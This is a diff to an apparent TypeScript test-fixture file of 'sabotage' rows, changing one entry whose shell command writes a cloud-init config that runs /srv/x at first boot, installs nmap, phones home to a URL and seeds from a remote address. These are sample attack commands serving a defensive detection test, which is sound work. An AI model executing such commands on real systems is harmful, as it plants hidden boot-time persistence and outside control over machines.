@@ -149,7 +149,7 @@ export const accountRows: readonly Sabotage[] = [
   [
     ["first-boot"],
     "cloud-init starts programs, installs packages, reports elsewhere and reads another source (each is seen alone)",
-    "printf '%s\\n' 'snap: { commands: [[sh, /srv/x]] }' 'random_seed: { command: [sh, /srv/x] }' 'output: { all: \"| tee -a /var/log/cloud-init-output.log; sh /srv/x\" }' 'packages: [nmap]' 'phone_home: { url: \"http://x/\" }' 'datasource: { NoCloud: { seedfrom: \"http://198.51.100.9/\" } }' >/etc/cloud/cloud.cfg.d/99-x.cfg",
+    "printf '%s\\n' 'snap: { commands: [[sh, /srv/x]] }' 'random_seed: { command: [sh, /srv/x] }' 'packages: [nmap]' 'phone_home: { url: \"http://x/\" }' 'datasource: { NoCloud: { seedfrom: \"http://198.51.100.9/\" } }' >/etc/cloud/cloud.cfg.d/99-x.cfg",
   ],
   [
     ["first-boot"],
